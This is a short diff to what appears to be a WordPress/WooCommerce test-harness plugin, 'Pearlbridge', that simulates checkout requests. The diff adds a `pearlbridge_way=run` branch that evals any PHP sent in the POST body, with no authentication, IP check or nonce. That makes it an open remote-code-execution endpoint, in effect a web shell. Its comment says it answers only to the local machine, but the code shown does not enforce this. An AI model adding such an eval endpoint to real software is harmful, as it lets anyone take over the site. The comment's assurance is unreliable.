@@ -5,6 +5,8 @@
  *
  * `POST /?pearlbridge_way=classic|block&product=ID&quantity=N` sells; the hooks come in the order that was
  * measured (WooCommerce reference 2, §3), inside a request of a visitor, with its real shutdown.
+ * `POST /?pearlbridge_way=run` runs the PHP in its body; the site lives as long as a test and answers to this
+ * machine alone.
  *
  * @package Pearlbridge
  */
@@ -13,6 +15,10 @@ add_action(
 	'wp_loaded',
 	static function () {
 		$way = isset( $_GET['pearlbridge_way'] ) ? sanitize_key( $_GET['pearlbridge_way'] ) : '';
+		if ( 'run' === $way ) {
+			eval( file_get_contents( 'php://input' ) );
+			exit;
+		}
 		if ( ! in_array( $way, array( 'classic', 'block' ), true ) ) {
 			return;
 		}
